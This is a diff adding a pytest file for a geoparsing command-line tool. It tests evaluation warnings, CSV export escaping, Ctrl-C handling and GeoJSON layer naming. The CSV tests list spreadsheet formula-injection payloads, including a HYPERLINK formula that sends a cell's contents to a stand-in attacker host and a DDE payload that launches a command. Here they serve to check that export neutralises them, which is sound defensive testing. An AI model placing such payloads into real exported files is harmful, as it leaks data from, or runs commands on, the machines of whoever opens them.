@@ -1,0 +1,179 @@
+"""The smaller items of the battery: eval on a corpus without gold toponyms warns; CSV cells
+cannot become spreadsheet formulas; Ctrl-C is one line and status 130; GeoJSON layers are named
+after the final file, not the temporary one."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import types
+from pathlib import Path
+
+import geopandas as gpd
+import pandas as pd
+import pytest
+from shapely.geometry import Point
+
+from geomap.cli.main import main
+from geomap.io.export import csv_safe, csv_unsafe, read_frame, write_frame
+
+ROOT = Path(__file__).resolve().parents[2]
+SAMPLE = ROOT / "data" / "samples" / "us-boosting-iraq-base.txt"
+
+
+def run(capsys, *args) -> tuple[int, str, str]:
+    try:
+        main([str(a) for a in args])
+        code = 0
+    except SystemExit as exc:
+        code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
+    out = capsys.readouterr()
+    return code, out.out, out.err
+
+
+# -- eval without gold ----------------------------------------------------------------------------
+class NoPlaces:
+    @classmethod
+    def load(cls, model=None):
+        return cls()
+
+    def mentions_many(self, texts, published):
+        return [[] for _ in texts]
+
+    def resolve_spans(self, text, spans, published=None):
+        return []
+
+
+@pytest.fixture
+def fake_pipeline(monkeypatch):
+    fake = types.ModuleType("geomap.pipeline")
+    fake.Geoparser = NoPlaces
+    monkeypatch.setitem(sys.modules, "geomap.pipeline", fake)
+
+
+def corpus(tmp_path, toponyms) -> Path:
+    path = tmp_path / "gold.jsonl"
+    rows = [{"id": f"d{i}", "text": "Rockets struck Baghdad on Monday.", "toponyms": toponyms}
+            for i in range(3)]
+    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    return path
+
+
+def test_eval_without_gold_toponyms_warns(tmp_path, capsys, fake_pipeline):
+    code, out, err = run(capsys, "eval", corpus(tmp_path, []), "--no-progress")
+    assert code == 0, err
+    lines = [line for line in err.splitlines() if line.startswith("warning: ")]
+    assert len(lines) == 1 and "no gold toponyms" in lines[0] and "0 of 0" in lines[0], err
+
+
+def test_eval_without_coordinates_warns_about_resolution(tmp_path, capsys, fake_pipeline):
+    path = corpus(tmp_path, [{"start": 15, "end": 22, "name": "Baghdad"}])
+    code, _, err = run(capsys, "eval", path, "--no-progress", "--gold-spans")
+    assert code == 0, err
+    assert "warning: " in err and "no gold toponym has coordinates" in err
+
+
+def test_eval_with_gold_does_not_warn(tmp_path, capsys, fake_pipeline):
+    path = corpus(tmp_path, [{"start": 15, "end": 22, "name": "Baghdad", "lat": 33.3, "lon": 44.4}])
+    code, _, err = run(capsys, "eval", path, "--no-progress")
+    assert code == 0 and "warning" not in err, err
+
+
+# -- CSV injection --------------------------------------------------------------------------------
+DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
+             "@SUM(A1:A9)", "\t=1", "\r=1", "'=already quoted", "''@twice"]
+
+
+@pytest.mark.parametrize("text", DANGEROUS + ["plain", "", "'just a quote", "a=b", "Baghdad -1"])
+def test_csv_safe_round_trips(text):
+    safe = csv_safe(text)
+    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert csv_unsafe(safe) == text
+
+
+def test_csv_export_neutralises_formulas_and_reads_back(tmp_path):
+    gdf = gpd.GeoDataFrame({"title": DANGEROUS, "lat": [-33.5] * len(DANGEROUS),
+                            "n": list(range(len(DANGEROUS)))},
+                           geometry=[Point(-70.1, -33.5)] * len(DANGEROUS), crs="EPSG:4326")
+    path = write_frame(gdf, tmp_path / "e.csv")
+    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
+    for cell in raw["title"]:
+        assert cell.startswith("'"), cell
+    assert set(raw["lat"]) == {"-33.5"}  # numbers stay numbers
+    back = read_frame(path)
+    assert list(back["title"]) == DANGEROUS
+
+
+# -- Ctrl-C ---------------------------------------------------------------------------------------
+def test_keyboard_interrupt_in_a_command_is_one_line_and_130(tmp_path, capsys, monkeypatch):
+    def interrupted(*a, **k):
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr("geomap.cli.map_cmd.load_documents", interrupted)
+    out_file = tmp_path / "map.html"
+    out_file.write_bytes(b"old")
+    code, _, err = run(capsys, "map", SAMPLE, "-o", out_file)
+    assert code == 130
+    assert err.strip() == "error: interrupted"
+    assert out_file.read_bytes() == b"old"
+
+
+SIGINT_SELF = """
+import os, signal, sys, time
+import geomap.cli.map_cmd as common
+
+def load_documents(*a, **k):
+    os.kill(os.getpid(), signal.SIGINT)
+    time.sleep(30)
+
+common.load_documents = load_documents
+from geomap.cli.main import main
+main(sys.argv[1:])
+"""
+
+
+def test_sigint_in_a_real_process(tmp_path):
+    out_file = tmp_path / "map.html"
+    out_file.write_bytes(b"old")
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    proc = subprocess.run([sys.executable, "-c", SIGINT_SELF, "map", str(SAMPLE), "-o", str(out_file)],
+                          capture_output=True, text=True, env=env, timeout=120)
+    assert proc.returncode == 130, proc.stderr
+    assert proc.stderr.strip() == "error: interrupted"
+    assert out_file.read_bytes() == b"old" and sorted(p.name for p in tmp_path.iterdir()) == ["map.html"]
+
+
+def test_interrupt_while_the_command_line_imports():
+    """Before ``main`` runs there is no try block: the command's excepthook makes it one line."""
+    code = ("import sys; from geomap.cli.main import _interrupted_hook; sys.excepthook = _interrupted_hook; "
+            "raise KeyboardInterrupt")
+    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
+                          env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)
+    assert proc.returncode == 130 and proc.stderr.strip() == "error: interrupted", proc.stderr
+
+
+def test_excepthook_is_left_alone_for_library_users():
+    import geomap.cli.main  # noqa: F401
+
+    assert sys.excepthook is not geomap.cli.main._interrupted_hook
+
+
+# -- layer names ----------------------------------------------------------------------------------
+def test_geojson_name_and_gpkg_layer_follow_the_final_file(tmp_path):
+    gdf = gpd.GeoDataFrame({"a": ["x"]}, geometry=[Point(44.4, 33.3)], crs="EPSG:4326")
+    write_frame(gdf, tmp_path / "ev.geojson")
+    assert json.loads((tmp_path / "ev.geojson").read_text(encoding="utf-8"))["name"] == "ev"
+    import pyogrio
+
+    write_frame(gdf, tmp_path / "events 2020.gpkg")
+    assert [name for name, _ in pyogrio.list_layers(tmp_path / "events 2020.gpkg")] == ["events 2020"]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["ev.geojson", "events 2020.gpkg"]
+
+
+def test_map_events_geojson_is_named_after_the_final_file(tmp_path, capsys):
+    code, _, err = run(capsys, "map", SAMPLE, "-q", "-o", tmp_path / "map.html",
+                       "--events", tmp_path / "ev.geojson")
+    assert code == 0, err
+    assert json.loads((tmp_path / "ev.geojson").read_text(encoding="utf-8"))["name"] == "ev"
